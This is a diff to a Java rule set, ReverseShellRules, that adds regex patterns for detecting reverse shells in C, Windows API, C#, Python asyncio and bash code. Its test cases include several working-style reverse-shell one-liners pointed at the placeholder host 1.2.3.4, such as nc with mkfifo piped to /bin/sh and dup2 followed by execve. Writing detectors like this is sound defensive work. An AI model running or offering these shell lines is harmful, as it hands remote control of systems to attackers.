@@ -57,7 +57,7 @@ final class ReverseShellRules {
               .finds(
                   "\\bexec\\s+[0-9]+\\s*(?:<>|&lt;&gt;|\\\\u003c\\\\u003e)\\s*"
                       + DEVICE
-                      + "[^\\x00]*\\b(?:sh\\b|bash\\b|while\\s+read|cat\\s*<)",
+                      + "[^\\x00]*(?:(?:[;|&\\n(]|\\\\n|\\bexec)\\s*(?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh\\s|\\bwhile\\s+read|\\bcat\\s*(?:<|&lt;|\\\\u003c)[^|\\n]*\\|)",
                   160)
               .finds(
                   "\\b(?:ba|z|da|k)?sh (?:-i )?[0-9]?(?:<|&lt;) ?/dev/(?:tcp|udp)/[0-9A-Za-z_.:${}-]+/[0-9]")
@@ -108,6 +108,16 @@ final class ReverseShellRules {
               .finds(
                   "\\brequire\\(\\s*\\\\?[\"']net\\\\?[\"']\\)[^\\x00]*\\.connect\\([^\\x00]*\\b(?:spawn|exec)[A-Za-z]*\\(\\s*\\\\?[\"'](?:/bin/)?(?:(?:ba|z|da)?sh|cmd|powershell)")
               .finds("/inet/tcp/0/[0-9A-Za-z.-]+/[0-9]{1,5}")
+              .finds(
+                  "\\bconnect\\([^\\x00]*\\bdup2\\([^\\x00]*(?:\\bexec[lv][pe]{0,2}|\\bsystem|\\bposix_spawnp?)\\([^)\\n]*\\\\?\"(?:/bin/)?(?:ba|z|da|k)?sh\\\\?\"",
+                  600)
+              .finds(
+                  "\\b(?:WSA)?[cC]onnect\\([^\\x00]*\\bCreateProcess[AW]?\\([^;]*(?i:cmd|powershell)",
+                  600)
+              .finds("\\bnew\\s+TcpClient\\([^\\x00]*(?:cmd\\.exe|powershell|/bin/(?:ba)?sh)", 600)
+              .finds(
+                  "\\bopen_connection\\([^\\x00]*\\bcreate_subprocess_(?:shell|exec)\\(\\s*\\\\?[\"'](?:/bin/)?(?:ba|z|da)?sh",
+                  600)
               .finds("\\bnet\\.Dial\\([^\\x00]*\\bexec\\.Command\\b")
               .finds("\\bTcpStream::connect\\([^\\x00]*\\bCommand::new\\(")
               .finds(
@@ -145,12 +155,19 @@ final class ReverseShellRules {
                   "require('child_process'); var c=net.connect(4,'1.2.3.4')",
                   "n=require('net');s=n.connect(4,'1.2.3.4');p=c.spawn('/bin/sh')",
                   "lua -e \"require('socket');t=socket.tcp();t:connect('1.2.3.4','9');os.execute('sh -i <&3')\"",
+                  "connect(s,(void*)&a,sizeof a);dup2(s,0);dup2(s,1);execve(\"/bin/sh\",0,0);",
+                  "WSAConnect(s, &a); CreateProcess(NULL, \"cmd\", 0, 0, 1, 0, 0, 0, &si, &pi);",
+                  "var c = new TcpClient(\"1.2.3.4\", 443); Process.Start(\"cmd.exe\");",
+                  "r, w = await asyncio.open_connection('1.2.3.4', 9); await asyncio.create_subprocess_shell('sh')",
+                  "exec 7<>/dev/tcp/1.2.3.4/99\ncat <&7 | $SHELL",
                   "telnet 1.2.3.4 80 | /bin/bash",
                   "mknod /tmp/p p && telnet 1.2.3.4 80 0</tmp/p | /bin/bash 1>/tmp/p",
                   "mkfifo /tmp/q; nc 1.2.3.4 9001 0</tmp/q | /bin/sh >/tmp/q 2>&1")
               .ignores(
                   "/dev/tcp/host/port",
                   "timeout 1 bash -c '</dev/tcp/localhost/5432' && echo up",
+                  "exec 3<>/dev/tcp/www.example.com/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3",
+                  "connect(s, &a, sizeof a); dup2(s, 0); execl(\"/usr/lib/in.fingerd\", \"in.fingerd\", 0);",
                   "nc -zv example.com 443",
                   "nc -l 8080",
                   "nc -l 8080 | sh-lint",
